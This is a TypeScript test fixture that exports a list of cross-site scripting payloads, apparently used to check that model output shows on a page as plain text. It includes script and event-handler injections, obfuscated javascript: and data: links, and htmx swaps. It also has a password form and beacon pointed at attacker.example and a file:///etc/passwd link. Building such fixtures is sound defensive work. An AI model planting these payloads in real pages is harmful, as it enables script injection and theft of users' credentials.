/** What a model may be talked into saying, and no page may do: each line shows that it has won by calling `alert`. */
export const HOSTILE = `Every line below is an attack. On a page that is right all of it is text.

<script>alert("script")</script>

<img src="x" onerror="alert('onerror')">

<svg onload="alert('svg')"><animate onbegin="alert('animate')" attributeName="x"></svg>

<iframe src="javascript:alert('iframe')" srcdoc="<script>alert('srcdoc')</script>"></iframe>

<div hx-get="/healthz" hx-trigger="load" hx-target="body" hx-swap="innerHTML">swapped away</div>

<form action="https://attacker.example/"><input name="password" autofocus onfocus="alert('focus')"></form>

<style>body { display: none }</style><base href="https://attacker.example/">

<a href="javascript:alert('a')" onclick="alert('click')">a link</a>

</main></body></html> <!-- an end that is none --> <hx-partial hx-target="#_main" hx-swap="innerHTML">gone</hx-partial>

[javascript](javascript:alert('link')), [upper case](JaVaScRiPt:alert('case')), [tab](java&#9;script:alert('tab')),
[data](data:text/html,<script>alert('data')</script>), [vbscript](vbscript:msgbox('vb')), [file](file:///etc/passwd)

![an image](javascript:alert('image')) ![a beacon](https://attacker.example/pixel.gif)

[a title](https://example.com "\\" onmouseover=alert('title') x=\\"") and <https://example.com/"onclick="alert('auto')>

\`\`\`html "><script>alert('fence')</script>
<script>alert("in a fence")</script>
\`\`\`

| <b onmouseover="alert('cell')">cell</b> | \`<script>alert("code")</script>\` |
|---|---|
| data: [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) | id: 7 |

event: end
data: this is no event

That was the last one. A good link: [example.com](https://example.com).`;
